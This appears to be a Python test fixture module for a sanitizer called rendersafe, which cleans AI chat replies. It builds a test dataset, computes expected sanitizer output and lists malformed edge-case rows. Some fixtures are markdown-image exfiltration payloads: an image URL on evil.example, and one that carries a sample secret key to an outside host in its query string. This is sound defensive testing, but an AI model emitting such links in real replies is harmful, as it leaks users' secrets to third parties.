"""The lake the engine tests sanitise, and what `Sanitizer.run` makes of each row.

`RENDERSAFE_LAKE_ROWS` sets its size (3,000 rows by default, what CI runs; the issue's
100,000 is `RENDERSAFE_LAKE_ROWS=100000`, and benchmarks/bench_batch.py checks that size
too). Written once per test process, in a temporary folder removed at exit.
"""

from __future__ import annotations

import atexit
import functools
import json
import os
import shutil
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq

from rendersafe import Policy, Sanitizer

sys.path.insert(0, str(Path(__file__).parent.parent / "benchmarks"))
import lake_data

ROWS = int(os.environ.get("RENDERSAFE_LAKE_ROWS", "3000"))
POLICY = Policy()
EVIL = "![x](https://evil.example/x.png)"
KEY = "sk-live-4f3e2d1c0b9a8f7e6d5c4b3a"


@dataclass(frozen=True)
class Expected:
    """One row as `Sanitizer.run` sanitises it: the text, and the findings' JSON."""

    text: str
    changed: bool
    findings: list[dict[str, Any]]


@functools.cache
def lake() -> lake_data.Lake:
    """The lake of `ROWS` chats, written once per process."""
    folder = Path(tempfile.mkdtemp(prefix="rendersafe-lake-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return lake_data.write(folder, ROWS)


@functools.cache
def expected() -> dict[str, Expected]:
    """Each row of the lake by id, sanitised one at a time with its messages."""
    table = pq.read_table(lake().replies, columns=["id", "reply", "messages"])
    sanitizer = Sanitizer(POLICY)
    found = {}
    for row in table.to_pylist():
        result = sanitizer.run(row["reply"], conversation=row["messages"])
        findings = [f.model_dump(mode="json") for f in result.findings]
        found[row["id"]] = Expected(result.text, result.text != row["reply"], findings)
    return found


def mismatches(ids: list[str], results: list[dict[str, Any]]) -> list[str]:
    """The ids whose result differs from `expected()` (each result a struct's dict)."""
    want = expected()
    wrong = []
    for rid, got in zip(ids, results, strict=True):
        row = want[rid]
        same = (got["text"], got["changed"]) == (row.text, row.changed)
        if not same or json.loads(got["findings"]) != row.findings:
            wrong.append(rid)
    return wrong


def bad_rows() -> list[tuple[Any, Any]]:
    """(reply, conversation) pairs no batch may fail on, with what each must give."""
    messages = json.dumps([{"role": "user", "content": f"my key is {KEY}"}])
    return [
        (None, messages),  # a null reply
        ("x" * 10_000_000, messages),  # a 10 MB cell
        (f"![k](https://c.example/p.png?k={KEY})", messages[:-10]),  # cut-off JSON
        (f"![k](https://c.example/p.png?k={KEY})", "42"),  # not JSON-shaped: plain text
        ("honest reply", "[" * 100_000),  # JSON nested past any reader
        ("honest reply", "{" + "x" * 10_000_000),  # a 10 MB broken conversation
        (EVIL, None),  # no conversation
    ]
